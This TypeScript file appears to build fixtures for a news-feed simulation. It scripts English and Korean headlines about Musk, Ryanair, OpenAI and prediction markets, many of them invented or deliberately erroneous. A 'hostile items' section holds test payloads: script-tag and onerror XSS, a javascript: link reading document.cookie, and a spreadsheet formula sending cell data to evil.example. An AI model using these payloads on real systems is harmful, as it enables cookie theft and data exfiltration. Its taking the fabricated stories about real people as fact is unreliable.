import { DAY, abbreviated, dayOf, inEnglish, inEnglishShort, inKorean } from './calendar.ts';
import type { Ground } from './build.ts';
import { deadlines } from './story-markets.ts';

/** A headline and its teaser. */
export type Wording = { title: string; summary: string };

/** A story the simulation tells on purpose, at a day counted from the anchor. */
export type Script = {
	id: string;
	day: number;
	/** English words a search over translations finds. */
	keywords: string;
	tone: number;
	en?: Wording;
	/** Other outlets' headlines for the same story; without them outlets copy the wire. */
	enCopies?: string[];
	ko?: Wording;
	koCopies?: string[];
	/** Outlet that has it first; the wire of each language unless named. */
	first?: string;
	/** Only this outlet has it. */
	only?: string;
	/** A later wording of the first outlet's headline. */
	correction?: { lang: 'en' | 'ko'; hours: number; title: string };
	/** What a hostile feed gives as link. */
	link?: string;
};

/**
 * The scripted stories, oldest first. The course of events is that of January 2026 with the dates
 * moved so that it ends at the anchor; headlines marked `printed` repeat errors that newsrooms
 * really made, for the draft checks to find.
 */
export function scripts(ground: Ground): Script[] {
	const { summer, spring, beforeWinter, fed } = deadlines(ground);
	const at = (days: number) => dayOf(ground.anchor + days * DAY);
	const summerEn = inEnglishShort(summer);
	const summerKo = inKorean(summer);
	return [
		{
			id: 'wifi-row',
			day: -15.6,
			keywords: 'Elon Musk Ryanair Starlink wifi airline',
			tone: -2.1,
			en: {
				title:
					"Ryanair rules out Starlink Wi-Fi, citing fuel cost; Musk calls the decision 'misinformed'",
				summary:
					"Ryanair's chief executive said antennas on the roof of its aircraft would raise fuel bills. Elon Musk disagreed in a post and the two traded insults for a day."
			},
			ko: {
				title: '라이언에어 “스타링크 안 단다”…머스크 “잘못된 정보” 반박',
				summary:
					'(서울=예시통신) 김예시 기자 = 아일랜드 저비용항공사 라이언에어가 기내 와이파이로 스타링크를 쓰지 않겠다고 밝히자 일론 머스크가 엑스에서 반박했다.'
			}
		},
		{
			id: 'insults',
			day: -13.2,
			keywords: 'Elon Musk Ryanair O’Leary insult',
			tone: -3.4,
			en: {
				title: "O'Leary calls Musk an 'idiot'; Musk asks whether he should be fired",
				summary:
					'The quarrel over in-flight internet between the heads of Ryanair and SpaceX grew louder on Monday.'
			},
			ko: {
				title: '라이언에어 CEO “머스크는 바보”…머스크 “해고해야 하나”',
				summary: '기내 인터넷을 둘러싼 두 최고경영자의 설전이 거칠어졌다.'
			}
		},
		{
			id: 'openai-175',
			day: -12.6,
			keywords: 'OpenAI valuation funding round Altman',
			tone: 2.6,
			en: {
				title: 'OpenAI closes secondary sale at $175 billion valuation, people familiar say',
				summary:
					'Employees sold shares to a group of investors. The company said nothing about a new primary round.'
			},
			ko: {
				title: '오픈AI, 기업가치 1750억달러로 구주 매각 마무리',
				summary:
					'오픈AI 직원들이 보유 지분을 투자자들에게 넘겼다. 회사는 신규 투자 유치에 대해 언급하지 않았다.'
			},
			koCopies: [
				'오픈AI 기업가치 1천750억 달러…구주 거래 종료',
				'오픈에이아이 구주 매각, 몸값 1750억달러'
			]
		},
		{
			id: 'openai-340',
			day: -11.9,
			keywords: 'OpenAI valuation talks funding SoftBank Altman',
			tone: 2.2,
			en: {
				title: 'OpenAI in talks to raise funds at $340 billion valuation',
				summary:
					'Talks are at an early stage and the terms may change, three people with knowledge of them said.'
			},
			ko: {
				title: '오픈AI, 기업가치 3400억달러로 투자 유치 협의',
				summary: '협의는 초기 단계로 조건은 바뀔 수 있다고 관계자들은 전했다.'
			},
			correction: {
				lang: 'en',
				hours: 5,
				title: 'OpenAI in early talks to raise funds at up to $340 billion valuation'
			}
		},
		{
			id: 'musk-altman-ruling',
			day: -10.92,
			keywords: 'Musk Altman OpenAI lawsuit judge jury trial',
			tone: -0.6,
			en: {
				title: 'Judge sends Musk v. Altman to a jury, says there is plenty of evidence',
				summary:
					"The lawsuit over OpenAI's conversion from a nonprofit will go to trial in spring, the court ruled."
			},
			enCopies: [
				'Musk v. Altman: jury will hear lawsuit over OpenAI conversion',
				'Musk lawsuit against OpenAI heads to jury trial'
			],
			ko: {
				title: '법원 “머스크 대 올트먼 소송, 배심원이 판단”…오픈AI 재판 간다',
				summary: '오픈AI의 영리 전환을 둘러싼 머스크의 소송이 봄에 재판에 들어간다.'
			}
		},
		{
			id: 'america-party',
			day: -9.7,
			keywords: 'Elon Musk America Party election president White House',
			tone: -0.5,
			en: {
				title:
					"Musk revives talk of 'America Party', says he will not be a candidate for president",
				summary: 'He is not eligible for the presidency, having been born abroad.'
			},
			ko: {
				title: '머스크, 아메리카당 다시 거론…“대통령 출마는 안 해”',
				summary: '미국 밖에서 태어난 머스크는 대통령이 될 수 없다.'
			}
		},
		{
			id: 'cpi',
			day: -9.12,
			keywords: 'Federal Reserve inflation interest rates',
			tone: -1.2,
			en: {
				title: 'Inflation stays sticky, cooling hopes of a rate cut this month',
				summary: `Consumer prices rose more than expected. Traders now see little chance of a cut when the Federal Reserve meets on ${inEnglishShort(fed)}.`
			},
			ko: {
				title: '미 물가 예상 웃돌아…이달 금리 인하 기대 후퇴',
				summary: `연방준비제도는 ${inKorean(fed)} 통화정책회의 결과를 내놓는다.`
			}
		},
		{
			id: 'altman-korea-visit',
			day: -8.3,
			keywords: 'OpenAI Altman Korea Samsung SK Kakao visit',
			tone: 2.8,
			en: {
				title: 'Altman to visit Seoul, meet heads of Samsung, SK and Kakao',
				summary:
					'The chief executive of OpenAI will discuss memory chips and data centers, officials said.'
			},
			ko: {
				title: '올트먼 방한…삼성·SK·카카오 총수 잇따라 만난다',
				summary:
					'(서울=예시통신) 박보기 기자 = 샘 올트먼 오픈AI 최고경영자가 이번 주 한국을 찾아 반도체와 데이터센터 협력을 논의한다.'
			},
			koCopies: [
				'샘 올트먼 방한, 삼성·SK·카카오와 회동',
				'오픈AI 올트먼, 한국 온다…삼성·SK·카카오 만날 듯'
			]
		},
		{
			id: 'altman-korea-loi',
			day: -7.5,
			keywords: 'OpenAI Altman Korea Samsung SK Kakao letter of intent data center',
			tone: 3.1,
			en: {
				title: 'OpenAI signs letters of intent with Samsung and SK on chips and data center',
				summary: 'The letters are not binding. No site and no amount were named.'
			},
			ko: {
				title: '오픈AI, 삼성·SK와 반도체·데이터센터 협력 의향서 체결',
				summary:
					'구속력은 없으며 부지와 금액은 공개되지 않았다. 카카오는 챗GPT 협력을 이어가기로 했다.'
			}
		},
		...echoes('altman-korea', 'OpenAI Altman Korea Samsung SK Kakao', [
			[
				-7.48,
				'gyeonbon',
				'ko',
				'삼성전자·SK하이닉스 시가총액 하루 새 40조원 늘어…오픈AI 효과',
				'외국인이 순매수를 주도했다.'
			],
			[
				-7.47,
				'placeholder-tech',
				'en',
				'Seoul ministry promises faster power permits if OpenAI picks a Korean site',
				'Grid connections now take six years.'
			],
			[
				-7.46,
				'yesi-ilbo',
				'ko',
				'올트먼, 카카오 판교 사옥서 개발자 300명과 대담',
				'한국 개발자 지원 프로그램을 소개했다.'
			],
			[
				-7.45,
				'gasang-it',
				'ko',
				'전남 주민단체 “오픈AI 데이터센터 용수 대책부터”',
				'지하수 사용량 공개를 요구했다.'
			],
			[
				-7.44,
				'specimen-markets',
				'en',
				'Altman dines with Korean startup founders, skips palace meeting',
				'The presidential office called it a matter of schedule.'
			],
			[
				-7.43,
				'moui',
				'ko',
				'오픈AI 한국 법인 채용 공고…변호사·정책 담당 50명',
				'서울 사무소 규모를 두 배로 키운다.'
			]
		]),
		{
			id: 'korea-debate',
			day: -7.33,
			keywords: 'South Korea presidential election debate poll Han Seo-jun',
			tone: 0.4,
			en: {
				title: 'Han Seo-jun seen ahead after first debate of Korean presidential election',
				summary:
					'Two overnight polls put Han ahead of Yoon Chae-won. The candidates of this simulation are invented.'
			},
			ko: {
				title: '대권 첫 토론회…“한서준 우세” 여론조사 2건',
				summary:
					'한서준 후보가 윤채원 후보를 앞섰다는 조사가 나왔다. 이 시뮬레이션의 후보는 모두 가상 인물이다.'
			}
		},
		{
			id: 'starlink-tie',
			day: -7.05,
			keywords: 'Ryanair easyJet Starlink airline',
			tone: 0.1,
			en: {
				title: 'Neither Ryanair nor easyJet announces Starlink by deadline',
				summary: 'A bet on which airline would be first ended without a winner.'
			},
			only: 'mock-aviation'
		},
		{
			id: 'musk-poll',
			day: -6.1,
			keywords: 'Elon Musk Ryanair buy poll followers airline',
			tone: 0.8,
			en: {
				title: "Musk polls followers on buying Ryanair: 'How much would it cost?'",
				summary: `Elon Musk asked his followers whether he should buy Ryanair and "put someone whose actual name is Ryan in charge". More than 900,000 votes were cast within a day.`
			},
			enCopies: [
				'Elon Musk asks followers whether he should buy Ryanair',
				'Should I buy Ryanair? Musk puts airline takeover to a poll'
			],
			ko: {
				title: '[속보] 머스크, 라이언에어 인수 여부 투표 부쳐…“얼마면 되나”',
				summary:
					'일론 머스크 테슬라 최고경영자가 엑스에서 아일랜드 항공사 라이언에어를 인수할지 묻는 투표를 올렸다.'
			},
			koCopies: [
				'머스크 “라이언에어 살까요?” 팔로워에 투표…하루 만에 90만명 참여',
				'머스크, 라이언에어 인수 투표…“라이언이라는 사람에 맡길 것”'
			]
		},
		{
			id: 'ryanair-sale',
			day: -5.9,
			keywords: 'Ryanair Musk seat sale O’Leary response',
			tone: 0.6,
			en: {
				title: "Ryanair answers Musk with a 'Big Idiot' seat sale; shares rise 2 %",
				summary:
					"EU rules bar non-EU citizens from majority ownership of an EU airline, Ryanair's chief executive said."
			},
			ko: {
				title: '라이언에어, 머스크 도발에 ‘바보 특가’로 응수…주가 2% 상승',
				summary:
					'유럽연합 규정상 비EU 시민은 항공사 지분의 과반을 가질 수 없다고 라이언에어는 밝혔다.'
			}
		},
		...echoes('musk-poll', 'Elon Musk Ryanair buy poll airline', [
			[
				-6.065,
				'sample-ledger',
				'en',
				'Tesla owner fined 200 euros for parking at Ryanair gate, Musk offers to pay',
				'Airport police towed the car in Cork.'
			],
			[
				-6.045,
				'gasang-it',
				'ko',
				'유럽의회, 기내 전자파 기준 표결 앞두고 머스크·라이언에어 로비전',
				'표결은 다음 달로 예정돼 있다.'
			],
			[
				-6.015,
				'specimen-markets',
				'en',
				'Dublin bakery sells 4,000 Musk-shaped biscuits to Ryanair crews',
				'A second oven has been ordered.'
			],
			[
				-6.055,
				'moui',
				'ko',
				'머스크 발언에 국내 저비용항공사 주가도 동반 강세…라이언에어 효과',
				'증권가는 일시적인 현상으로 봤다.'
			],
			[
				-6.035,
				'mock-aviation',
				'en',
				'Irish finance minister declines to comment on Musk and Ryanair, points to budget',
				'Parliament is in recess until next week.'
			],
			[
				-6.025,
				'gyeonbon',
				'ko',
				'유럽 항공노조 “머스크가 라이언에어 경영하면 안전 기준 후퇴 우려”',
				'집행위원회에 서한을 보냈다.'
			],
			[
				-6.08,
				'mock-aviation',
				'en',
				'Brussels: ownership limits for EU airlines apply to Musk and Ryanair too',
				'Carriers of the union must be majority-owned by its citizens, a spokesperson said.'
			],
			[
				-6.07,
				'specimen-markets',
				'en',
				'Short sellers lose 40 million euros on Ryanair after Musk stirs shares',
				'Figures of a data firm cover the first hour of trading.'
			],
			[
				-6.06,
				'gyeonbon',
				'ko',
				'서학개미, 머스크 따라 라이언에어 주식예탁증서 순매수 1위',
				'하루 사이 국내 투자자 매수액이 열 배로 늘었다.'
			],
			[
				-6.05,
				'placeholder-tech',
				'en',
				'Police warn of fake Musk giveaway with Ryanair logo',
				'Victims were promised free flights for a crypto deposit.'
			],
			[
				-6.04,
				'yesi-ilbo',
				'ko',
				'머스크·라이언에어 사칭 코인 사기 주의보…금융당국 경고',
				'무료 항공권을 미끼로 송금을 요구하는 수법이다.'
			],
			[
				-6.03,
				'gasang-it',
				'ko',
				'위키백과, 라이언에어 문서 편집 잠가…“머스크가 창업” 장난 잇따라',
				'관리자들은 하루 동안 편집을 제한했다.'
			],
			[
				-6.02,
				'sample-ledger',
				'en',
				'Pilots at Ryanair seek seat at table if Musk ever takes over cockpit decisions',
				'Their union wants pay grades guaranteed for five years.'
			]
		]),
		{
			id: 'odds-12',
			day: -5.7,
			keywords: 'Polymarket Ryanair Musk odds prediction market',
			tone: 0.2,
			en: {
				title: 'Polymarket traders put odds of Musk-Ryanair deal at 12%',
				summary: `The contract asks whether an agreement is announced by ${summerEn}.`
			},
			first: 'specimen-markets'
		},
		{
			id: 'odds-9',
			day: -5.0,
			keywords: 'Polymarket Ryanair Musk odds prediction market volume',
			tone: 0.1,
			en: {
				title: 'Odds Musk buys Ryanair slip to 9% on Polymarket, volume tops $1 million',
				summary: 'No talks are known to have taken place.'
			},
			first: 'specimen-markets'
		},
		{
			id: 'fsd-no-monitor',
			day: -4.22,
			keywords: 'Tesla unsupervised FSD self-driving robotaxi Musk',
			tone: 2.0,
			en: {
				title: 'Tesla starts robotaxi rides without safety monitors in Austin, Musk says',
				summary:
					'Elon Musk said unsupervised FSD would reach private owners "soon". He has said so in several earlier years.'
			},
			ko: {
				title: '테슬라, 오스틴서 안전요원 없는 로보택시 운행…머스크 “무감독 FSD 곧”',
				summary:
					'머스크는 개인 소유 차량에도 무감독 완전자율주행을 곧 적용하겠다고 말했다. 같은 약속은 여러 해 되풀이됐다.'
			},
			koCopies: [
				'테슬라 로보택시, 안전요원 없이 달린다…머스크 “곧 무감독 FSD”',
				'머스크 “무감독 FSD 곧 일반 차량에도”'
			]
		},
		{
			id: 'rule-clarified',
			day: -4.3,
			keywords: 'Polymarket Ryanair rules clarification',
			tone: 0,
			en: {
				title: 'Polymarket clarifies Ryanair contract: an announced agreement is enough',
				summary:
					'A note added to the rules says completion is not required and a poll does not count.'
			},
			only: 'specimen-markets'
		},
		{
			id: 'dublin',
			day: -3.0,
			keywords: 'Elon Musk Dublin visit Ryanair',
			tone: -0.3,
			en: {
				title: 'No sign of Musk in Dublin as Ryanair talk fades',
				summary: 'Airport officials said no visit was planned.'
			},
			first: 'mock-aviation'
		},
		{
			id: 'offer-rumour',
			day: -1.95,
			keywords: 'Elon Musk Ryanair offer talks shares airline',
			tone: 0.9,
			en: {
				title: 'Musk says he is "seriously looking" at airlines; Ryanair has no offer',
				summary: 'Ryanair said that it had received no approach from Elon Musk or his companies.'
			},
			ko: {
				title: '머스크 “항공사 진지하게 검토”…라이언에어 “제안 없었다”',
				summary: '라이언에어는 머스크나 그의 회사로부터 어떤 제안도 받지 않았다고 밝혔다.'
			}
		},
		{
			id: 'grok-5',
			day: -1.42,
			keywords: 'Grok xAI Musk release',
			tone: 1.1,
			en: {
				title: 'xAI opens Grok 5 to a waiting list; Musk calls it released',
				summary: 'Access is by invitation for now, the company said.'
			},
			ko: {
				title: '머스크 “그록 5 공개”…실제론 대기자 명단부터',
				summary: 'xAI의 그록 5는 초대받은 이용자부터 쓸 수 있다.'
			}
		},
		// What was really printed, with its errors (dates moved).
		{
			id: 'printed-trader-en',
			day: -1.2,
			keywords: 'Polymarket trader Elon Musk bets profit prediction market',
			tone: 0.7,
			en: {
				title: 'Trader made more than $36,000 betting on markets about Elon Musk',
				summary:
					'Twelve positions on announcements by Musk, among them one that he would leave his White House job, earned the account a profit, records show.'
			},
			first: 'sample-ledger'
		},
		{
			id: 'printed-trader-staked',
			day: -0.8,
			keywords: 'Polymarket trader Elon Musk bets stake prediction market',
			tone: 0.3,
			en: {
				title: "Trader with over $36,000 on the line is 'always betting NO' on Elon Musk",
				summary: 'The account takes the other side of everything Musk announces, posts said.'
			},
			only: 'placeholder-tech'
		},
		{
			id: 'printed-trader-ko',
			day: -0.62,
			keywords: 'Polymarket trader Elon Musk bets profit prediction market',
			tone: 0.4,
			ko: {
				title: '머스크 말 반대로 걸어 3만6000달러(약 4300만원) 번 투자자',
				summary:
					'머스크의 발표를 다룬 예측시장에서 한 이용자가 3만6000달러(약 4300만원)를 벌었다. 24만달러가 베팅됐는데 전체의 54%가 ‘그렇다’에 돈을 걸었다.'
			},
			only: 'moui'
		},
		{
			id: 'printed-200',
			day: -0.45,
			keywords: 'Polymarket Elon Musk Ryanair prediction market volume',
			tone: 0.1,
			ko: {
				title: '머스크, 라이언에어 인수할까…예측시장에 200만달러(약 26억원) 몰려',
				summary: `폴리마켓에서 ${summerKo}까지 인수 합의가 발표될지를 두고 200만달러(약 26억원)가 거래됐다.`
			},
			only: 'yesi-ilbo'
		},
		{
			id: 'printed-4',
			day: -0.38,
			keywords: 'Polymarket Elon Musk Ryanair prediction market percent',
			tone: 0.1,
			ko: {
				title: '“머스크, 라이언에어 인수” 예측한 비율은 4% 수준',
				summary: `(서울=예시통신) 김예시 기자 = 예측시장 폴리마켓에서 머스크가 ${summerKo}까지 라이언에어를 인수할 것으로 본 비율은 약 4%에 그쳤다.`
			},
			koCopies: ['머스크의 라이언에어 인수, 예측한 비율 4% 그쳐']
		},
		{
			id: 'printed-14',
			day: -0.31,
			keywords: 'Kalshi Elon Musk Ryanair prediction market percent',
			tone: 0,
			en: {
				title: 'Prediction market gives Musk a 14% chance of buying Ryanair',
				summary: `Traders on Kalshi put the odds at 14%. The contract pays if Musk, Tesla or SpaceX take any stake before ${abbreviated(beforeWinter)}.`
			},
			only: 'placeholder-tech'
		},
		{
			id: 'printed-4-en',
			day: -0.27,
			keywords: 'Polymarket Elon Musk Ryanair prediction market percent volume',
			tone: 0,
			en: {
				title: 'Only 4% believe Musk will buy Ryanair, says a market with $2 million at stake',
				summary: `Polymarket prices an announced agreement by ${inEnglish(summer)} at about 4 cents.`
			},
			first: 'sample-ledger',
			correction: {
				lang: 'en',
				hours: 3,
				title:
					'Traders price a Musk-Ryanair agreement at about 4%, in a market with $2 million traded'
			}
		},
		{
			id: 'printed-fsd',
			day: -0.2,
			keywords: 'Tesla unsupervised FSD odds Polymarket Kalshi',
			tone: 0.8,
			en: {
				title: `Tesla unsupervised FSD by ${summerEn}: 68% on Polymarket, 100% on Kalshi`,
				summary: 'The two contracts ask different questions.'
			},
			ko: {
				title: '테슬라 무감독 FSD, 폴리마켓 68%·칼시 100%',
				summary: '두 계약의 판정 기준은 서로 다르다.'
			},
			first: 'specimen-markets'
		},
		{
			id: 'wire-today',
			day: -0.12,
			keywords: 'Elon Musk Ryanair buy airline investors',
			tone: -0.4,
			en: {
				title: 'Analysts see little logic in a Musk bid for Ryanair',
				summary:
					'Ownership rules, price and the state of the order book speak against a purchase, three analysts said.'
			},
			ko: {
				title: '“머스크의 라이언에어 인수, 실익 없어”…증권가 회의적',
				summary: '지분 규제와 가격을 고려하면 인수 가능성은 낮다는 분석이 나왔다.'
			}
		},
		{
			id: 'trillionaire',
			day: -0.09,
			keywords: 'Elon Musk trillionaire net worth prediction market',
			tone: 0.9,
			ko: {
				title: '머스크, 세계 첫 조만장자 될까…시장은 반신반의',
				summary:
					'머스크의 재산이 1조달러(조만장자)를 넘을지를 다루는 계약이 50% 안팎에서 거래되고 있다.'
			},
			en: {
				title: 'Will Musk be the first trillionaire? Markets say it is a coin flip',
				summary: 'Contracts on the milestone trade near 55 cents.'
			}
		},
		// Hostile items: what a broken or malicious feed may carry.
		{
			id: 'hostile-script',
			day: -2.4,
			keywords: 'Samsung Electronics quarter profit',
			tone: 0,
			ko: {
				title: '<script>alert(1)</script> 삼성전자, 4분기 영업이익 예상 웃돌아',
				summary: '<img src=x onerror="alert(2)">반도체가 실적을 끌어올렸다.'
			},
			only: 'moui'
		},
		{
			id: 'hostile-link',
			day: -2.3,
			keywords: 'airline tickets sale',
			tone: 0,
			en: {
				title: 'Johnson & Johnson\'s "deal" of the week: 3 < 5',
				summary: 'A summary with a bare & and a tag that is none: a <b b.'
			},
			only: 'sample-ledger',
			link: 'javascript:alert(document.cookie)'
		},
		{
			id: 'hostile-formula',
			day: -2.2,
			keywords: 'spreadsheet prices',
			tone: 0,
			en: {
				title: '=HYPERLINK("http://evil.example/?"&A1,"Flight prices")',
				summary: 'A headline that a spreadsheet would run.'
			},
			only: 'sample-ledger',
			link: 'data:text/html,<script>alert(1)</script>'
		},
		{
			id: 'hostile-direction',
			day: -2.1,
			keywords: 'headline direction',
			tone: 0,
			en: {
				title: '\u202Erianayr syub ksuM\u202C headline of the day',
				summary: `${'A very long teaser. '.repeat(400)}`
			},
			only: 'sample-ledger'
		},
		// After the anchor: what a visitor of the running demo sees arrive.
		{
			id: 'live-1',
			day: 4 / (24 * 60),
			keywords: 'Elon Musk Ryanair buy poll airline offer',
			tone: 1.2,
			en: {
				title: 'Musk posts "Ryanair, last chance", names no price',
				summary: 'Ryanair declined to comment. Shares were little changed.'
			},
			ko: {
				title: '[속보] 머스크 “라이언에어, 마지막 기회”…가격은 언급 안 해',
				summary: '라이언에어는 논평을 거부했다.'
			}
		},
		...echoes('live', 'Elon Musk Ryanair buy airline offer', [
			[
				14 / (24 * 60),
				'sample-ledger',
				'en',
				'Tesla dealer in Porto swaps test drives for Ryanair vouchers, cites Musk',
				'Forty people queued before opening.'
			],
			[
				29 / (24 * 60),
				'gasang-it',
				'ko',
				'유럽의회 기내 전자파 표결 연기…머스크·라이언에어 모두 환영',
				'새 일정은 정해지지 않았다.'
			],
			[
				9 / (24 * 60),
				'specimen-markets',
				'en',
				'Regulator asks Musk about posts that moved Ryanair shares',
				'The inquiry concerns disclosure rules in Ireland.'
			],
			[
				16 / (24 * 60),
				'gyeonbon',
				'ko',
				'머스크 변호인단, 라이언에어 지분 보유 여부 “답변 거부”',
				'공시 의무는 3%부터 생긴다.'
			],
			[
				24 / (24 * 60),
				'mock-aviation',
				'en',
				'Boeing says Ryanair orders stand whatever Musk plans',
				'The maker has 300 aircraft to deliver.'
			],
			[
				33 / (24 * 60),
				'yesi-ilbo',
				'ko',
				'더블린 공항 “머스크 전용기 착륙 신청 없었다”…라이언에어 본사 취재진 몰려',
				'경찰이 출입로를 통제했다.'
			],
			[
				47 / (24 * 60),
				'placeholder-tech',
				'en',
				'Ryanair app crashes as Musk followers look for cheap tickets',
				'Engineers restored bookings after half an hour.'
			]
		]),
		{
			id: 'live-2',
			day: 35 / (24 * 60),
			keywords: 'Ryanair O’Leary Musk offer denial',
			tone: -0.8,
			en: {
				title: "O'Leary: 'Nobody has called, nobody will'",
				summary: "Ryanair's chief executive said an offer would be illegal under ownership rules."
			},
			ko: {
				title: '라이언에어 CEO “연락 온 적도, 올 일도 없다”',
				summary: '유럽연합의 항공사 지분 규정을 다시 거론했다.'
			}
		},
		{
			id: 'live-3',
			day: 2.6 / 24,
			keywords: 'OpenAI IPO filing Altman',
			tone: 0.9,
			en: {
				title: 'OpenAI prepares confidential IPO filing for the second half, report says',
				summary: 'A confidential filing would not by itself bring shares to the public.'
			},
			ko: {
				title: '오픈AI, 하반기 상장 예비심사 준비…“비공개 신청”',
				summary: '비공개 신청만으로 상장이 이뤄지는 것은 아니다.'
			}
		},
		{
			id: 'live-4',
			day: 1.1,
			keywords: 'OpenAI Korea data center Samsung SK',
			tone: 1.4,
			en: {
				title: `OpenAI says Korean data center decision will come after ${inEnglishShort(spring)}`,
				summary: `The company had given no date before ${inEnglishShort(at(-7))}.`
			},
			ko: {
				title: '오픈AI “한국 데이터센터 결정은 봄 이후”',
				summary: '삼성·SK와의 본계약은 아직 없다.'
			}
		}
	];
}

/** Single outlets' own pieces on a story: what makes a topic loud is many of them at once. */
function echoes(
	id: string,
	keywords: string,
	rows: [day: number, outlet: string, lang: 'en' | 'ko', title: string, summary: string][]
): Script[] {
	return rows.map(([day, only, lang, title, summary], i) => ({
		id: `${id}-echo-${i}`,
		day,
		keywords,
		tone: 0.2,
		only,
		[lang]: { title, summary }
	}));
}
